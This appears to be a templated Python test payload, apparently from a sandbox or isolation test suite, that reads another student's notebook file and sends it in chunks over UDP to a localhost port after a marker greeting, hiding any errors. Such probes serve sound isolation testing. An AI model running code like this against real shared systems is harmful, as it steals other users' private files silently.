# Read another student's notebook and send it over UDP to 127.0.0.1 (a greeting datagram first).
def _attack():
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        address = ("127.0.0.1", int("{UDP_PORT}"))
        sender.sendto(b"HELLO {MARKER}\n", address)
        try:
            with open("{VICTIM}", "rb") as handle:
                data = handle.read()
        except OSError:
            data = b""
        for start in range(0, len(data), 8192):
            sender.sendto(data[start:start + 8192], address)


try:
    _attack()
except Exception:
    pass
